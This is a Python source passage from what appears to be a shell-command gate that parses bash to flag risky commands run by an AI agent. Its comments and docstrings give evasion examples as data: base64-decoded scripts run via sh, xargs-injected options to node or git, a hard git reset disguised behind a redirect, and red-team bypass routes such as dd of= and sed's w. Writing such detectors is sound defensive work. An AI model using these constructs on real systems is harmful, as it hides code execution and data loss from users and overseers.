    """The folder ``-t DIR``, ``-tDIR``, ``-rt DIR`` or ``--target-directory[=]DIR`` names
    (coreutils' cp, mv, install, ln); ``None`` when there is none.  The folder's words
    are then no source: callers drop ``DIR`` from the operands themselves."""
    for k, arg in enumerate(args):
        if arg == "--":
            return None
        value = ""
        if arg.startswith("--target-directory"):
            value = arg.partition("=")[2] or (args[k + 1] if k + 1 < len(args) else "")
        elif arg[:1] == "-" and arg[1:2] != "-":
            flags, t, rest = arg[1:].partition("t")
            if t and (not flags or flags.isalpha()):  # -t DIR, -rt DIR, -tDIR; not -S.tmp
                value = rest or (args[k + 1] if k + 1 < len(args) else "")
        if value:
            return value
    return None


def _messages_only(redirects: list[tuple[str, str]]) -> set[str]:
    """The files a download writes only through another descriptor (``curl URL > page
    2> trace.sh``): its progress and errors, not what it fetched.  Only a downloader's:
    a program that runs code (``make``, ``sh -c 'cat x >&2'``) prints what it likes there."""
    other = {r[1] for r in redirects if isinstance(r, OtherFd)}
    return other - {r[1] for r in redirects if not isinstance(r, OtherFd)}


# Commands whose output pipes.output_text reads from the command itself: a file they
# write holds that text (``base64 -d <<< B64 > f; sh f`` runs what B64 decodes to).
_PRINTS_KNOWN = frozenset({"echo", "printf", "cat", "tee", "tac", "base64", "rev", "xxd"})


def _tee_appends(args: list[str]) -> bool:
    """``tee -a``/``--append`` (``-ia``, and ``--ap`` as getopt takes a long option's
    unambiguous start): its files are added to, not replaced."""
    return any(
        (len(a) > 2 and "--append".startswith(a))
        or (a.startswith("-") and not a.startswith("--") and "a" in a)
        for a in args
    )


def _after_and(node: Any) -> bool:
    """Whether a list ends with a simple command joined by ``&&`` (``a && b``): it
    runs only when the rest passed, so a check there is one every way passed."""
    last = node.children[-1] if node.children else None
    ops = [c for c in node.children if not c.is_named]
    return last is not None and last.type == "command" and bool(ops) and ops[-1].type == "&&"


# A file in a git hooks folder (a repository's own, or a submodule's under .git/modules).
_GIT_HOOK = LazyPattern(r"/\.git/(?:modules/.+/)?hooks/[^/]+$")
# ``${{ expr }}``: a CI or Jinja template left in a command (GitHub Actions'
# ``${{ secrets.TOKEN }}``); bash cannot expand it.
_TEMPLATE = LazyPattern(r"\$\{\{[^\n]*?\}\}")
# Statements whose success is their last command's: a check there vouches for its file.
_KEEPS_CHECKS = frozenset(
    {"command", "redirected_statement", "pipeline", "list", "subshell", "compound_statement",
     "program", "test_command"}
)  # fmt: skip
# Tools that check a file against a digest or a signature (shell/verify.py).
_CHECKERS = frozenset(
    {"sha256sum", "sha512sum", "gsha256sum", "gsha512sum", "shasum", "gpg", "gpg2", "gpgv",
     "gpgv2", "cosign", "minisign", "signify", "test"}
)  # fmt: skip
# Bodies run one statement after another (where ``set -e`` stops at a failure).
_SEQUENCES = frozenset({"program", "compound_statement", "subshell", "do_group"})


def _errexit(state: ShellState, args: list[str]) -> None:
    """``set -e``, ``set -euo pipefail``, ``set -o errexit`` (``+`` turns it off)."""
    k = 0
    while k < len(args):
        a = args[k]
        k += 1
        if a in ("--", "-") or a[:1] not in ("-", "+") or len(a) < 2:
            break
        on = a[0] == "-"
        if "e" in a[1:]:
            state.errexit = on
        if "o" in a[1:] and k < len(args):
            if args[k] == "errexit":
                state.errexit = on
            k += 1


# The time keyword's own end of options (unquoted): `time -- f` calls the function f.
_TIME_DASHDASH = LazyPattern(r"(?:^|[\s;&|(])time\s+(?:-p\s+)?--\s")
# `export -f f`, `declare -fx f`, `typeset -f`: functions handed to child shells.
_EXPORTS_FUNCTIONS = LazyPattern(r"\b(?:export|declare|typeset)\s+-[a-zA-Z]*f")
# Options that load or name code to run (their value counts as code).
_CODE_OPTIONS = frozenset({"-r", "-M", "-m", "-f", "--file", "--require", "--import", "--loader"})


def _unknown_option(cmd: Cmd, name: str) -> bool:
    """A code runner or git given an option (or git a subcommand) from data fed in at run time.

    ``xargs -I{} node --ev{} CODE``, ``... | xargs -I{} git push --{}``: the
    unknown part may turn the command into one that runs code or destroys work.
    """
    runner = name in SHELLS or name in interp.AWKS or bool(interp.interpreter_name(name))
    if not runner and name != "git":
        return False
    args = cmd.args
    if name == "git":
        from agentreflex.gate.rules import git as rules_git  # imported with the git rules

        sub, rest, _ = rules_git.split(args)
        options = rest[: rest.index("--")] if "--" in rest else rest
        return DATA in sub or any(
            (a.startswith("--") and DATA in a.split("=", 1)[0]) or a[1:2] == DATA[:1]
            for a in options
            if a.startswith("-") and DATA in a
        )
    for k, a in enumerate(args):
        if a == "--" or (not a.startswith("-") and k and args[k - 1] not in _CODE_OPTIONS):
            return False
        if DATA in a and (a.startswith("-") or (k and args[k - 1] in _CODE_OPTIONS)):
            return True
        if not a.startswith("-") and not k:
            return False
    return False


def _calls_functions(
    wrappers: list[str], argv: list[str], assigns: dict[str, str], text: str
) -> bool:
    """Whether the command word can be a shell function: reached directly, or through
    the ``time`` keyword (no prefix assignment; ``--`` only unquoted).  ``env f``,
    ``sudo f``, ``X=1 time f``, ``time "--" f`` run an external program or a
    command named ``--``, which do not see the shell's functions."""
    if not wrappers:
        return True
    if wrappers != ["time"] or assigns:
        return False
    return argv[1:2] != ["--"] or bool(_TIME_DASHDASH.search(text))


def _service_script(base: str) -> bool:
    """``kafka-topics.sh``: a script named like a service CLI the packs judge."""
    from agentreflex.gate import packs  # only for a command named *.sh

    return base[:-3] in packs.programs()


def _basename(name: str) -> str:
    return name.rsplit("/", 1)[-1] if "/" in name else name


_PLAIN_WORD = re.compile(r"[\w./=+:,@%-]+")


def _dropped_words(statement: Any, body: Any, heredoc: Any) -> list[str]:
    """Words between a command and its heredoc that tree-sitter-bash leaves out of every node.

    The grammar drops a lone ``-`` before ``<<`` (``make -f - <<EOF`` parses as
    ``make -f``), and ``-`` there is "read the program from stdin": the heredoc.
    Only plain words are taken back; anything else in the gap is left as parsed.
    """
    if body is None or body.end_byte >= heredoc.start_byte:
        return []
    start = statement.start_byte
    gap = statement.text[body.end_byte - start : heredoc.start_byte - start]
    words = gap.decode("utf-8", "replace").split()
    return words if all(_PLAIN_WORD.fullmatch(w) for w in words) else []


def _redirect_words(node: Any) -> list[Any]:
    """Words tree-sitter-bash folds into a redirect that are really arguments.

    ``git >/dev/null reset --hard`` runs ``git reset --hard``: bash takes only
    the first word after ``>`` as the target, but the grammar hangs the rest of
    the command's words on the redirect.
    """
    targets = [c for c in node.named_children if c.type not in ("file_descriptor", "ERROR")]
    return targets[1:]


def _bun_code(name: str, args: list[str]) -> bool:
    """``bun -e CODE``: inline code for the interpreter, not a package script."""
    return name == "bun" and args[:1] in (["-e"], ["--eval"], ["-p"], ["--print"])


# What a substitution loading a .env may run: filters whose only output is their stdout
# (red-team rt93: dd of=, logger, sed's w, awk's print > write it elsewhere).
_FILTERS = frozenset(
    {"cat", "grep", "egrep", "cut", "xargs", "echo", "tr", "head", "tail", "sort", "uniq"}
)


def _only_passes_on(cmd: Cmd) -> bool:
    """Whether ``cmd`` writes nothing but its standard output: a filter with no
    redirect out, ``sed`` without its ``w``/``e`` commands, ``awk`` without ``>``, ``|``
    or ``system``."""
    if any(op[:1] == ">" for op, _ in cmd.redirects):
        return False
    code = " ".join(a for a in cmd.args if not a.startswith("-"))
    if cmd.name == "sed":
        return not re.search(r"(?:^|[;}\s/])[wWe](?:\s|$)|/[gpI0-9]*[we]", code)
    if cmd.name == "awk":
        return not any(k in code for k in (">", "|", "system", "getline"))
    return cmd.name in _FILTERS


def _read_fields(line: str, count: int, ifs: str) -> list[str] | None:
    """``line`` split among ``count`` names as ``read`` splits it (the last taking the
    rest): on blanks for the default IFS, on each character of an IFS of non-blank ones
    (``IFS=,``); ``None`` for any other IFS, which is not followed (red-team rt93)."""
    if has_marker(ifs):
        return None
    if ifs == " \t\n":
        line = line.strip(" \t")
        return line.split(None, count - 1) if count > 1 else [line]
    if not ifs or any(c in " \t\n" for c in ifs):
        return None
    fields = re.split("[" + re.escape(ifs) + "]", line, maxsplit=count - 1)
    if len(fields) == count and fields[-1] and fields[-1][-1] in ifs:
        # bash drops one trailing delimiter from the rest when nothing follows it
        rest = fields[-1][:-1]
        if not any(c in ifs for c in rest):
            fields[-1] = rest
    return fields


# A loop whose check always passes: its body runs once at least.
_RUNS_ONCE = LazyPattern(r"(?:while\s+(?:true|:)|until\s+false)\s*(?:;|\n|do\b)")


def _in_background(node: Any) -> bool:
    """Whether ``node`` is ended by ``&``: bash runs it as a job in a child shell."""
    after = node.next_sibling
    return after is not None and after.type == "&"


def _chain(node: Any) -> list[Any]:
    """The parts and operators of ``a && b || c`` in order: the grammar nests it to the
    left (``(a && b) || c``), one chain to bash."""
    kids = list(node.children)
    if kids and kids[0].type == "list":
        return [*_chain(kids[0]), *kids[1:]]
    return kids
